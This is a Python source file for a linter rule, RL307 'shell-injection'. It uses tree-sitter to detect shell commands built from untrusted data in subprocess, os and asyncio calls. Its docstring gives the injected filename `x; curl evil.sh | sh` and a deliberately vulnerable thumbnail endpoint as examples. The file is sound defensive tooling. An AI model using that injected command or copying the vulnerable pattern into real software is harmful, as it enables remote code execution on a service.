"""RL307 shell-injection (Python)."""

from __future__ import annotations

import functools

from tree_sitter import Node

from ...languages import PYTHON
from ...python.strings import string_parts
from ...rule import Captures, Rule
from ...model import FixAvailability, Severity


@functools.lru_cache(maxsize=64)
def _alias_query(names: str):
    """The query for calls through these aliases, compiled once per alias set (the
    same `from subprocess import run as sh` recurs across a project's files)."""
    from tree_sitter import Query

    from ...languages import language

    return Query(language("python"), f"(call function: (identifier) @fn arguments: (argument_list) @args (#any-of? @fn {names})) @call")


# Functions that hand their command to a shell only with `shell=True`.
SHELL_OPTIONAL = frozenset({
    "subprocess.run", "subprocess.call", "subprocess.check_call", "subprocess.check_output", "subprocess.Popen",
})
# Functions that always run their command through a shell.
ALWAYS_SHELL = frozenset({
    "os.system", "os.popen", "subprocess.getoutput", "subprocess.getstatusoutput",
    "asyncio.create_subprocess_shell", "commands.getoutput", "commands.getstatusoutput",
})
# Argument-list functions: `["sh", "-c", cmd]` is a shell command too.
ARGV = SHELL_OPTIONAL | frozenset({
    "asyncio.create_subprocess_exec", "os.execvp", "os.execv", "os.spawnvp",
})
SHELLS = frozenset({"sh", "bash", "zsh", "dash", "ksh", "/bin/sh", "/bin/bash", "/usr/bin/bash", "/usr/bin/env bash", "cmd", "cmd.exe", "powershell", "pwsh"})
# Quoting helpers: data passed through them cannot break out of its argument.
QUOTERS = frozenset({"shlex.quote", "pipes.quote", "shlex.join", "mslex.quote"})


class ShellInjection(Rule):
    """
    ## What it does
    Flags shell commands built from data: `subprocess.run|call|check_call|check_output|Popen`
    with `shell=True`, and `os.system`, `os.popen`, `subprocess.getoutput`,
    `subprocess.getstatusoutput` and `asyncio.create_subprocess_shell`, whose command is
    not a literal: an f-string, a `+` concatenation, `%` / `.format()` formatting, or a
    variable. An argument list that starts a shell with `-c` (`["bash", "-c", cmd]`)
    counts as well. Names are resolved through imports (`from subprocess import run`,
    `import subprocess as sp`).

    Not flagged: literal commands (including a name bound once to a literal), argument
    lists without a shell, and commands whose every interpolated part goes through
    `shlex.quote()` / `shlex.join()`.

    ## Why is this bad?
    The shell interprets `;`, `&&`, `|`, `$(...)` and backticks in the data: a filename
    or branch name such as `x; curl evil.sh | sh` runs arbitrary commands with the
    service's privileges. This is the most direct remote-code-execution path in a web
    backend.

    ## Example
    ```python
    @router.post("/thumbnails")
    def make_thumbnail(name: str):
        subprocess.run(f"convert uploads/{name} -resize 128x128 thumbs/{name}", shell=True)
    ```

    ## Use instead
    ```python
    @router.post("/thumbnails")
    def make_thumbnail(name: str):
        subprocess.run(["convert", f"uploads/{name}", "-resize", "128x128", f"thumbs/{name}"], check=True)
    ```

    ## Fix safety
    No fix: turning a shell string into an argument list needs to know how the command
    was meant to be split, and pipes or redirections need rewriting by hand.
    """

    code = "RL307"
    name = "shell-injection"
    language = PYTHON
    severity = Severity.ERROR
    fix_availability = FixAvailability.NONE
    messages = {
        "shell_true": "`{callee}(..., shell=True)` runs a command built from {what}: pass an argument list without `shell=True`",
        "always": "`{callee}` runs a command built from {what} through the shell: use `subprocess.run([...])` with an argument list",
        "dash_c": "`{callee}` starts `{shell} -c` with a command built from {what}: pass the program and its arguments as a list",
    }
    # Every target is a function of `os`, `subprocess`, `asyncio` or `commands`, and its
    # own name is spelled in the file (in the call or in the import that aliases it).
    requires = (
        r"\b(?:os|subprocess|asyncio|commands)\b",
        r"\b(?:system|popen|getoutput|getstatusoutput|create_subprocess_shell|create_subprocess_exec|run|call|check_call|check_output|Popen|execvp|execv|spawnvp)\b",
    )
    # Anchor: the function names the query's predicates accept (aliases: `finish`).
    anchor = r"\b(?:system|popen|getoutput|getstatusoutput|create_subprocess_shell|create_subprocess_exec|run|call|check_call|check_output|Popen|execvp|execv|spawnvp)\b"
    # A plain name and `x.name` in one alternation (one call step to compile, not two:
    # ~0.6 ms less in every process); `@last` is the name in both.
    query = """
    (call function: [(identifier) @fn @last (attribute attribute: (identifier) @last) @fn] arguments: (argument_list) @args
      (#any-of? @last "Popen" "call" "check_call" "check_output" "create_subprocess_exec" "create_subprocess_shell" "execv" "execvp" "getoutput" "getstatusoutput" "popen" "run" "spawnvp" "system")) @call
    """

    def on_match(self, captures: Captures, pattern: int) -> None:
        self._check(captures["call"][0], captures["fn"][0], captures["args"][0])

    def finish(self) -> None:
        # `from subprocess import run as sh_run`: aliases escape the query's name filter.
        aliases = [local for local, target in self.ctx.py.imports.items() if target in ALWAYS_SHELL | ARGV and local not in _SHORT_NAMES]
        if not aliases:
            return
        from tree_sitter import QueryCursor

        q = _alias_query(" ".join(f'"{a}"' for a in aliases))
        for _, caps in QueryCursor(q).matches(self.ctx.tree.root_node):
            self._check(caps["call"][0], caps["fn"][0], caps["args"][0])

    def _check(self, call: Node, fn: Node, args: Node) -> None:
        target = self.ctx.py.qualified_name(fn)
        if target is None:
            return
        command = _command_arg(args)
        if command is None:
            return
        callee = self.ctx.text(fn)
        if target in ALWAYS_SHELL:
            what = self._dynamic(command)
            if what:
                self.report(call, "always", callee=callee, what=what)
            return
        if target in SHELL_OPTIONAL and _shell_true(args):
            if command.type in ("list", "tuple"):
                items = [c for c in command.named_children if c.type != "comment"]
                command = items[0] if items else None
                if command is None:
                    return
            what = self._dynamic(command)
            if what:
                self.report(call, "shell_true", callee=callee, what=what)
            return
        items: list[Node] = []
        if target == "asyncio.create_subprocess_exec":
            items = [a for a in args.named_children if a.type not in ("comment", "keyword_argument")]
        elif target in ARGV and command.type in ("list", "tuple"):
            items = [c for c in command.named_children if c.type != "comment"]
        if items:
            if len(items) >= 3:
                shell = string_parts(self.ctx, items[0])
                flag = string_parts(self.ctx, items[1])
                if shell and flag and shell.is_literal and flag.is_literal and shell.text in SHELLS and flag.text in ("-c", "/c", "-Command"):
                    what = self._dynamic(items[2])
                    if what:
                        self.report(call, "dash_c", callee=callee, shell=shell.text, what=what)

    def _dynamic(self, command: Node) -> str | None:
        """A short description of the data in `command`, or None when it is a literal
        (or every spliced part is shell-quoted)."""
        parts = string_parts(self.ctx, command)
        if parts is None:
            if command.type in ("list", "tuple", "integer", "true", "false", "none"):
                return None
            return f"`{_short(self.ctx.text(command))}`"
        unquoted = [d for d in parts.dynamic if not self._quoted(d)]
        if not unquoted and not parts.opaque:
            return None
        if command.type == "identifier":
            return f"`{self.ctx.text(command)}`"
        return f"`{_short(self.ctx.text(unquoted[0]))}`" if unquoted else "data"

    def _quoted(self, expr: Node) -> bool:
        if expr.type == "call":
            return self.ctx.py.call_name(expr) in QUOTERS
        if expr.type in ("integer", "float"):
            return True
        return False


_SHORT_NAMES = frozenset(q.rsplit(".", 1)[-1] for q in ALWAYS_SHELL | ARGV)


def _short(text: str) -> str:
    text = " ".join(text.split())
    return text if len(text) <= 40 else text[:37] + "..."


def _command_arg(args: Node) -> Node | None:
    for a in args.named_children:
        if a.type == "comment":
            continue
        if a.type == "keyword_argument":
            key = a.child_by_field_name("name")
            if key is not None and key.text.decode() in ("args", "cmd", "command"):
                return a.child_by_field_name("value")
            continue
        if a.type in ("list_splat", "dictionary_splat"):
            return None
        return a
    return None


def _shell_true(args: Node) -> bool:
    for a in args.named_children:
        if a.type == "keyword_argument":
            key = a.child_by_field_name("name")
            value = a.child_by_field_name("value")
            if key is not None and key.text.decode() == "shell" and value is not None and value.type == "true":
                return True
    return False
